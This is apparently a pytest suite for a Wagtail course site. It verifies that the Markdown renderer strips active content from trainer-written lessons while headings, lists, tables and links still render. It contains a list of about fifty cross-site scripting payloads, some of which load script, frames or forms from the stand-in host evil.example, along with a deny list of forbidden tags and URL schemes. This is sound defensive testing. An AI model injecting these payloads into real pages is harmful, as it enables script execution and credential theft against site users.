"""Markdown written by trainers can never carry script into a councillor's browser, and ordinary
Markdown still looks the way the trainer meant."""

import re
from html.parser import HTMLParser

import pytest

from courses.markdown import render_markdown
from courses.models import LessonPage
from tests.factories import build_programme
from tests.helpers import main_html

# Each payload is a known way to run script or load hostile content through Markdown or the raw
# HTML that Markdown passes through.
XSS_PAYLOADS = {
    "script tag": "<script>alert(1)</script>",
    "script tag, upper case, remote source": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script split around a nested tag": "<scr<script>ipt>alert(1)</script>",
    "markdown link to javascript:": "[click me](javascript:alert(1))",
    "markdown link, mixed case JaVaScRiPt:": "[click me](JaVaScRiPt:alert(1))",
    "markdown link, entity-encoded colon": "[click me](javascript&#58;alert(1))",
    "markdown link, entity-encoded first letter": "[click me](&#x6A;avascript:alert(1))",
    "markdown link, angle-bracket destination": "[click me](<javascript:alert(1)>)",
    "markdown link to vbscript:": "[click me](vbscript:msgbox(1))",
    "md link to data:": "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown reference link to javascript:": "[click me][evil]\n\n[evil]: javascript:alert(1)",
    "markdown image with javascript: source": "![a picture](javascript:alert(1))",
    "md image, onerror in title": '![x](https://example.org/x.png "x" onerror="alert(1)")',
    "autolink with javascript:": "<javascript:alert(1)>",
    "raw link, spaces before the scheme": '<a href="   javascript:alert(1)">click me</a>',
    "raw link, newline and tab first": '<a href=" \n\t javascript:alert(1)">click me</a>',
    "raw link, entity tab inside": '<a href="java&#9;script:alert(1)">click me</a>',
    "raw link, entity newline inside": '<a href="java&#x0A;script:alert(1)">click me</a>',
    "raw link, &colon; entity": '<a href="javascript&colon;alert(1)">click me</a>',
    "raw link, decimal entity first letter": '<a href="&#106;avascript:alert(1)">click me</a>',
    "raw link to vbscript:": '<a href="VBScript:msgbox(1)">click me</a>',
    "raw link to data: with script": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "img src=x onerror": "<img src=x onerror=alert(1)>",
    "svg onload": "<svg onload=alert(1)>",
    "svg link with xlink:href": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "body onload": "<body onload=alert(1)>",
    "onclick on an allowed tag": "<p onclick=alert(1)>Hello</p>",
    "onmouseover on an allowed link": '<a href="https://www.gov.uk/" onmouseover="alert(1)">x</a>',
    "details ontoggle": "<details open ontoggle=alert(1)>",
    "input autofocus onfocus": "<input autofocus onfocus=alert(1)>",
    "video source onerror": "<video><source onerror=alert(1)></video>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe with javascript: source": '<iframe src="javascript:alert(1)"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "style tag": "<style>body { display: none }</style>",
    "style attribute": '<p style="background:url(javascript:alert(1))">styled</p>',
    "link to a stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "HTML comment hiding a script": "<!-- <script>alert(1)</script> -->",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "form posting elsewhere": '<form action="https://evil.example/"><input name="password"></form>',
    "button formaction": '<button formaction="javascript:alert(1)">Go</button>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base href": '<base href="https://evil.example/">',
    "math with an href": '<math href="javascript:alert(1)">x</math>',
    "math mXSS, mglyph + style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript title breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "table cell with an event handler": '<table><tr><td onmouseover="alert(1)">x</td></tr></table>',
    "abbr with an event handler": '<abbr title="HTML" onmouseover="alert(1)">HTML</abbr>',
}

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "style", "link", "form", "input",
    "button", "meta", "base", "svg", "math", "img", "video", "audio", "source", "details",
    "noscript", "body", "html", "head", "template",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset"}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))


def _as_a_browser_reads(url: str) -> str:
    """What a browser's URL parser looks at: leading and trailing spaces and control characters
    dropped, tabs and newlines removed anywhere, scheme case ignored."""
    url = url.strip("".join(chr(c) for c in range(0x21)))
    return re.sub(r"[\t\n\r]", "", url).lower()


def assert_no_active_content(html: str) -> None:
    assert "<script" not in html.lower()
    assert not re.search(r"<[^>]*\son\w+\s*=", html, re.I), "an event-handler attribute survived"
    parser = _Tags()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag not in FORBIDDEN_TAGS, f"<{tag}> survived"
        for name, value in attrs:
            assert not name.startswith("on"), f"{name}= on <{tag}> survived"
            assert name != "style", f"style= on <{tag}> survived"
            if name in URL_ATTRIBUTES and value:
                assert not _as_a_browser_reads(value).startswith(DANGEROUS_SCHEMES), (
                    f'<{tag} {name}="{value}"> survived'
                )


@pytest.mark.parametrize("payload", XSS_PAYLOADS.values(), ids=XSS_PAYLOADS.keys())
def test_an_xss_payload_renders_without_any_active_content(payload):
    html = render_markdown(payload)
    assert_no_active_content(html)


# An unclosed <style> makes the rest of the text style sheet, for a browser and for the
# sanitiser alike, so the text after it is dropped rather than shown.
SWALLOWS_THE_REST = {"math mXSS, mglyph + style"}


@pytest.mark.parametrize("name", XSS_PAYLOADS)
def test_an_xss_payload_inside_ordinary_markdown_leaves_the_text_around_it(name):
    html = render_markdown(f"Before the payload.\n\n{XSS_PAYLOADS[name]}\n\nAfter the payload.")
    assert_no_active_content(html)
    assert "Before the payload." in html
    if name not in SWALLOWS_THE_REST:
        assert "After the payload." in html


def test_the_corpus_is_large_enough_to_mean_something():
    assert len(XSS_PAYLOADS) >= 25


def test_the_safety_checks_catch_each_kind_of_active_content():
    # The checks above must be able to fail: each of these is what a broken sanitiser returns.
    unsafe = [
        "<script>alert(1)</script>",
        '<p onclick="alert(1)">x</p>',
        '<a href=" JaVa&#x09;Script:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        '<iframe src="https://evil.example/"></iframe>',
        '<meta http-equiv="refresh" content="0">',
        '<p style="color:red">x</p>',
    ]
    for html in unsafe:
        with pytest.raises(AssertionError):
            assert_no_active_content(html)


def test_headings_lists_bold_and_links_still_render():
    html = render_markdown(
        "## Why this matters\n\n"
        "Most council services now run on **technology**.\n\n"
        "- booking a bulky waste collection\n"
        "- reporting a broken streetlight\n\n"
        "1. first\n"
        "2. second\n\n"
        "Read the [Service Manual](https://www.gov.uk/service-manual).\n\n"
        "> A quotation.\n"
    )
    assert "<h2>Why this matters</h2>" in html
    assert "<strong>technology</strong>" in html
    assert "<ul>\n<li>booking a bulky waste collection</li>" in html
    assert "<ol>\n<li>first</li>" in html
    assert '<a href="https://www.gov.uk/service-manual" rel="noopener noreferrer">' in html
    assert "<blockquote>" in html


def test_tables_still_render():
    html = render_markdown(
        "| Service | Online |\n"
        "|:--------|-------:|\n"
        "| Parking permits | 82% |\n"
        "| Council tax | 64% |\n"
    )
    assert "<table>" in html
    assert "<th>Service</th>" in html
    assert "<td>Parking permits</td>" in html
    assert "<td>64%</td>" in html


def test_mailto_and_relative_links_are_kept():
    html = render_markdown("[Email us](mailto:team@example.org) or [go home](/).")
    assert 'href="mailto:team@example.org"' in html
    assert 'href="/"' in html


def test_code_shows_angle_brackets_as_text_rather_than_running_them():
    html = render_markdown("Never paste `<script>alert(1)</script>` into a page.")
    assert "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>" in html


@pytest.fixture
def hostile_lesson(db):
    """A lesson a trainer built with a Markdown block full of payloads, published through
    Wagtail like any other lesson."""
    body = [("markdown", "## A safe heading\n\nEvery payload below is in its own block.")]
    body += [
        ("markdown", f"Payload {i} follows.\n\n{payload}")
        for i, payload in enumerate(XSS_PAYLOADS.values())
    ]
    body += [("markdown", "All of it in one block:\n\n" + "\n\n".join(XSS_PAYLOADS.values()))]
    body += [("markdown", "The end of the lesson.")]
    lesson = LessonPage(title="A lesson with hostile Markdown", slug="hostile-markdown", body=body)
    build_programme(modules=1, lessons=0).modules[0].add_child(instance=lesson)
    lesson.save_revision().publish()
    return lesson


def test_a_lesson_page_with_hostile_markdown_serves_clean_html(client, hostile_lesson):
    response = client.get(hostile_lesson.url)
    assert response.status_code == 200
    main = main_html(response.content.decode())
    assert "<h2>A safe heading</h2>" in main
    assert f"Payload {len(XSS_PAYLOADS) - 1} follows." in main
    assert "The end of the lesson." in main
    assert_no_active_content(main)
